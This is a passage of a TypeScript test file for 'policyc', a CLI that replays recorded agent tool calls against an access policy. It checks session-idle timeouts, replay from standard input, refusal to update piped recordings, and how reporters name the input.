        { time: "2026-11-29T09:00:00Z", session: "s", tool: "kb.search", args: { query: "a" }, decision: "allow", rules: ["kb"] },
        { time: "2026-11-29T10:01:00Z", session: "s", tool: "kb.search", args: { query: "b" }, decision: "allow", rules: ["kb"] },
      ]
        .map((l) => JSON.stringify(l))
        .join("\n") + "\n",
    );

  it("a 61-minute pause expires the session by default (1h); --session-idle 2h keeps it, in test, diff and eval", async () => {
    const [p, r] = [policy(), recording()];
    const expired = await test(p, "--replay", r);
    expect(expired.code).toBe(1);
    expect(expired.stdout).toContain("has expired");
    expect((await test(p, "--replay", r, "--session-idle", "2h")).code).toBe(0);
    expect((await cli(["diff", p, p, "--replay", r, "--session-idle", "90m"])).code).toBe(0);
    const history = readFileSync(r, "utf8");
    expect(decisionLine((await cli(["eval", p, "--request", "-", "--session-idle", "2h"], { stdin: history })).stdout)).toMatch(/^allow kb\.search/);
    expect(decisionLine((await cli(["eval", p, "--request", "-"], { stdin: history })).stdout)).toMatch(/^deny kb\.search/);
  });

  it.each(["5x", "0s", "1.5h", "h", "-1m"])("--session-idle %s: exit 2 with what it takes", async (value) => {
    const result = await test(policy(), "--replay", recording(), `--session-idle=${value}`);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("--session-idle takes a duration such as 90m, 8h or 2d");
    expectNoStackTrace(result);
  });
});

describe("policyc test and diff: a recording piped on standard input (`--replay -`)", () => {
  const policy = "samples/finance-agent";
  const log = ["happy-path", "attacks"].map((name) => readFileSync(join(ROOT, policy, "recordings", `${name}.jsonl`), "utf8")).join("");
  const cases = lines(log).length;
  /** A fresh TMPDIR for the binary, to see what it leaves there. */
  const freshTemp = (): string => mkdtempSync(join(dir, "tmp-"));

  it.each(["-", "/dev/stdin"])("`--replay %s` replays every line, on several threads too, and leaves no temporary copy", (spelled) => {
    for (const jobs of ["1", "2"]) {
      const temp = freshTemp();
      const result = bin(["test", policy, "--replay", spelled, "--jobs", jobs], { stdin: log, env: { TMPDIR: temp } });
      expect(result.code, `--jobs ${jobs}`).toBe(0);
      expect(result.stdout, `--jobs ${jobs}`).toContain(`${cases} lines replayed from 1 file`);
      expect(lastLine(result.stdout), `--jobs ${jobs}`).toBe(`${cases} passed, 0 failed`);
      expect(readdirSync(temp), `--jobs ${jobs}`).toEqual([]);
    }
  });

  it("a failure in a piped recording is explained as one in a file is", () => {
    const failing = lines(log)[0]!.replace('"decision": "allow"', '"decision": "deny"');
    const file = write("piped/failing.jsonl", failing + "\n");
    const fromFile = bin(["test", policy, "--replay", file]);
    const piped = bin(["test", policy, "--replay", "-"], { stdin: failing + "\n" });
    expect(piped.code).toBe(1);
    expect(piped.stdout).toContain("because finance-read: `agent.team == \"finance-ops\"` was true");
    // Named `standard input`, as every message names it, never /dev/stdin (review a4 F10).
    expect(piped.stdout).not.toContain("/dev/stdin");
    expect(piped.stdout.replace("standard input", "FILE")).toBe(fromFile.stdout.replace(file, "FILE"));
  });

  it("--update refuses standard input before replaying anything (exit 2), by every name, piped or redirected from a file, and never rewrites the file behind it (review r3 R1)", () => {
    const advice = "not a file it can rewrite: save the recording to a file and update that\n";
    // Said at the recording, with its code, as a recording --update cannot rewrite is (review F2).
    const ways = [["-", "standard input is a stream"], ["/dev/stdin", "standard input is a stream"], ["/dev/fd/0", "`/dev/fd/0` is standard input"], ["/proc/self/fd/0", "`/proc/self/fd/0` is standard input"]] as const;
    const place = (spelled: string): string => (spelled === "-" || spelled === "/dev/stdin" ? "standard input" : spelled);
    for (const [spelled, what] of ways) {
      const result = bin(["test", policy, "--replay", spelled, "--update"], { stdin: log });
      expect([result.code, result.stdout, result.stderr], `${spelled}, piped`).toEqual([2, "", `${place(spelled)}: error[PC604]: --update rewrites recordings in place, but ${what}, ${advice}`]);
    }
    const file = write("piped/redirected.jsonl", lines(log)[0]!.replace('"decision": "allow"', '"decision": "deny"') + "\n");
    const before = readFileSync(file, "utf8");
    // Redirected, standard input is a regular file: `/dev/stdin` and `/dev/fd/0` lead to it, and so does its own name.
    for (const [spelled, what] of ways) {
      const shell = spawnSync("sh", ["-c", `"${process.execPath}" "${BIN}" test ${policy} --replay ${spelled} --update < "${file}"`], { cwd: ROOT, encoding: "utf8" });
      expect([shell.status, shell.stdout, shell.stderr], `${spelled}, redirected`).toEqual([2, "", `${place(spelled)}: error[PC604]: --update rewrites recordings in place, but ${what}, ${advice}`]);
    }
    const itself = spawnSync("sh", ["-c", `"${process.execPath}" "${BIN}" test ${policy} --replay "${file}" --update < "${file}"`], { cwd: ROOT, encoding: "utf8" });
    expect([itself.status, itself.stdout, itself.stderr]).toEqual([2, "", `${file}: error[PC604]: --update rewrites recordings in place, but \`${file}\` is also what standard input reads (\`<\` redirects it), which it never rewrites: give the file as a --replay path only\n`]);
    expect(readFileSync(file, "utf8")).toBe(before);
    // Given only as a path, the same file is updated.
    expect(bin(["test", policy, "--replay", file, "--update"]).code).toBe(0);
    expect(readFileSync(file, "utf8")).not.toBe(before);
  });

  it("`/dev/stdin` is standard input as `-` is: named `standard input` in every report, and one recording with `-`, piped or redirected (review r3 R1)", () => {
    const failing = lines(log)[0]!.replace('"decision": "allow"', '"decision": "deny"') + "\n";
    const pretty = bin(["test", policy, "--replay", "/dev/stdin"], { stdin: failing });
    expect(pretty.code).toBe(1);
    expect(pretty.stdout).toMatch(/^standard input\n/);
    const junit = bin(["test", policy, "--replay", "/dev/stdin", "--reporter", "junit"], { stdin: failing });
    expect(junit.stdout).toContain('<testsuite name="standard input"');
    expect(junit.stdout).not.toContain("/dev/stdin");
    const piped = bin(["test", policy, "--replay", "-", "/dev/stdin"], { stdin: log });
    expect([piped.code, piped.stdout]).toEqual([0, `${cases} lines replayed from 1 file\n${cases} passed, 0 failed\n`]);
    const file = write("piped/whole.jsonl", log);
    const redirected = spawnSync("sh", ["-c", `"${process.execPath}" "${BIN}" test ${policy} --replay - /dev/stdin < "${file}"`], { cwd: ROOT, encoding: "utf8" });
    expect([redirected.status, redirected.stdout]).toEqual([0, `${cases} lines replayed from 1 file\n${cases} passed, 0 failed\n`]);
  });

  it("a file named `standard input` is an ordinary recording: by its name, by a glob, beside `-` in either order, and updated (review r3 R2)", () => {
    const folder = join(dir, "named-standard-input");
    mkdirSync(folder, { recursive: true });
    writeFileSync(join(folder, "standard input"), log);
    const five = lines(log).slice(0, 5).join("\n") + "\n";
    const run = (args: string[], stdin = ""): CliResult => bin(["test", join(ROOT, policy), ...args], { cwd: folder, stdin });
    for (const spelled of ["standard input", "stand*", "./standard input"]) {
      const result = run(["--replay", spelled]);
      expect([result.code, lastLine(result.stdout)], spelled).toEqual([0, `${cases} passed, 0 failed`]);
      expect(result.stderr, spelled).toBe("");
    }
    for (const order of [["-", "standard input"], ["standard input", "-"], ["-", "stand*"]]) {
      const result = run(["--replay", ...order], five);
      expect([result.code, result.stdout.split("\n")[0]], order.join(" ")).toEqual([0, `${cases + 5} lines replayed from 2 files`]);
    }
    // A failure in each, told apart in JSON: the file by its name, standard input as `standard input`.
    const failing = lines(log)[0]!.replace('"decision": "allow"', '"decision": "deny"') + "\n";
    writeFileSync(join(folder, "standard input"), failing);
    const json = JSON.parse(run(["--replay", "stand*", "-", "--json"], failing).stdout) as { files: string[]; failures: { file: string }[] };
    expect(json.files).toEqual(["standard input", "standard input"]);
    expect(json.failures.map((f) => f.file)).toEqual(["standard input", "standard input"]);
    const updated = run(["--replay", "stand*", "--update"]);
    expect([updated.code, updated.stderr]).toEqual([0, "updated 1 recording with the actual decisions; review the diff\n"]);
    expect(readFileSync(join(folder, "standard input"), "utf8")).not.toBe(failing);
  });

  it("standard input is named `standard input` by every reporter and by diff, never by its internal marker (review r3 R2)", () => {
    const failing = lines(log)[0]!.replace('"decision": "allow"', '"decision": "deny"') + "\nnot json\n";
    for (const reporter of ["pretty", "json", "junit", "tap", "github"]) {
      const result = bin(["test", policy, "--replay", "-", "--reporter", reporter], { stdin: failing });
      expect(result.code, reporter).toBe(2);
      expect(result.stdout, reporter).toContain("standard input");
      expect(result.stdout + result.stderr, reporter).not.toMatch(/\u0000|\\u0000|\\0|\\x00/);
    }
    // An error (a line that is not JSON) and a note (a recording with no request line), as text and JSON.
    for (const [stdin, json] of [["not json\n", []], ["not json\n", ["--json"]], ["", []], ["", ["--json"]]] as const) {
      const result = bin(["diff", policy, policy, "--replay", "-", ...json], { stdin });
      expect(result.stdout, `${JSON.stringify(stdin)} ${json.join("")}`).toContain(json.length > 0 ? '"file": "standard input"' : "standard input");
      expect(result.stdout + result.stderr, json.join("")).not.toMatch(/\u0000|\\u0000|\\0|\\x00/);
    }
  });

  it("a copy that cannot be made is a clear input error (exit 2), not a crash", () => {
    const result = bin(["test", policy, "--replay", "-"], { stdin: log, env: { TMPDIR: join(dir, "no-such-folder") } });
    expect(result.code).toBe(2);
    expect(result.stdout).toContain(`standard input: error[PC600]: cannot read it through a temporary copy in ${join(dir, "no-such-folder")}: no such file or folder`);
    expectNoStackTrace(result);
  });

  it("diff replays a piped recording through both versions, on several threads too", () => {
    for (const jobs of ["1", "2"]) {
      const result = bin(["diff", policy, policy, "--replay", "-", "--jobs", jobs], { stdin: log, env: { TMPDIR: freshTemp() } });
      expect(result.code, `--jobs ${jobs}`).toBe(0);
      expect(result.stdout, `--jobs ${jobs}`).toBe(`0 of ${cases} decisions change\n`);
    }
  });
});
